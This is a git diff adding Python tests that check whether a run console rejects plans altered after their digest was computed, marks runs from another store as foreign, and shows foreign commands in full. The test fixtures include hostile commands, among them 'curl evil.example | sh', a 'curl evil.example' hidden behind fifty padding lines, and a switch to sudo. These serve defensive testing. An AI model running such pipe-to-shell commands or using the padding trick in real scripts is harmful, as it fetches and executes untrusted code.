@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import copy
 import json
 from collections.abc import Iterator
 from pathlib import Path
@@ -10,6 +11,7 @@ from typing import Any
 import pytest
 
 from console.environment import Environment
+from console.runs.api import Plan, plan_digest
 from console.runs.client import RunUnknown
 from console.runs.create import run_id
 from console.runs.foreign import is_run_id
@@ -90,6 +92,64 @@ def test_a_plan_for_another_place_is_not_believed(world: World, here: Environmen
     put_chain(world, RUN, chain(RUN, ("run.created", {**body, "plan": plan})))
     with pytest.raises(ChainBroken, match="is not believed"):
         fetch(world.records, RUN, here, ["one"])
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"argv": ["sh", "-c", "curl evil.example | sh"]},
+        {"cwd": "/etc"},
+        {"become": "sudo"},
+    ],
+)
+def test_a_plan_that_is_not_the_one_of_its_digest_is_not_believed(
+    world: World, here: Environment, changed: dict[str, Any]
+) -> None:
+    body = body_of(world)
+    plan = copy.deepcopy(body["plan"])
+    plan["steps"][0]["run"] |= changed
+    put_chain(world, RUN, chain(RUN, ("run.created", {**body, "plan": plan})))
+    with pytest.raises(ChainBroken, match="is not the one that its digest is of"):
+        fetch(world.records, RUN, here, ["one"])
+    assert world.records.read(RUN) == []
+    put_chain(world, RUN, chain(RUN, ("run.created", {**body, "plan": plan, "digest": plan_digest(plan)})))
+    if "cwd" in changed:
+        with pytest.raises(ChainBroken, match="works in /etc"):
+            fetch(world.records, RUN, here, ["one"])
+    else:  # control: whole in itself, so it is for a person to read
+        assert fetch(world.records, RUN, here, ["one"]) == 1
+
+
+def test_a_run_is_foreign_unless_this_store_made_it(world: World, here: Environment) -> None:
+    body = body_of(world)
+    own = world.runs.here()[0]
+    assert not world.runs.seen(own, here).foreign
+    put_chain(world, RUN, chain(RUN, ("run.created", body)))
+    fetch(world.records, RUN, here, ["one"])
+    assert world.runs.seen(RUN, here).foreign
+
+
+def test_nothing_of_a_foreign_plan_is_shortened(world: World, here: Environment) -> None:
+    from console.live.shown import plan_shown
+    from console.stacks.scripts import MARK_SCRIPT
+
+    view = world.view(world.create("do"))
+    steps = view.body["plan"]["steps"]
+    own = {**steps[0]["run"], "argv": ["sh", "-c", MARK_SCRIPT, "quarterdeck-mark", "x"]}
+    evil = {
+        **steps[0]["run"],
+        "argv": ["sh", "-c", "true\n" * 50 + "curl evil.example", "quarterdeck-mark", "x"],
+        "stdin": {"kind": "text", "text": "first\nlast"},
+    }
+    op = {"kind": "op", "name": "http.smoke@1", "args": {"pad": "x" * 400, "url": "http://evil.example"}}
+    changed = {**view.body["plan"], "steps": [{**steps[0], "run": evil, "check": op, "undo": own, "no_undo": None}]}
+    plan = Plan.model_validate(changed)
+    shown = plan_shown(plan, "changes", at=0.0, params={}, foreign="Not made here.").steps[0]
+    assert "curl evil.example" in shown.command and shown.command.endswith("first\nlast")
+    assert "http://evil.example" in shown.check
+    assert shown.undo == f"{{fixed script of {MARK_SCRIPT.count(chr(10))} lines}} quarterdeck-mark x"
+    short = plan_shown(plan, "changes", at=0.0, params={}).steps[0]
+    assert "evil" not in short.command + short.check  # control: a plan of one's own is shown short
 
 
 def test_a_host_adds_nothing_to_the_audit_or_to_another_run(world: World, here: Environment) -> None:
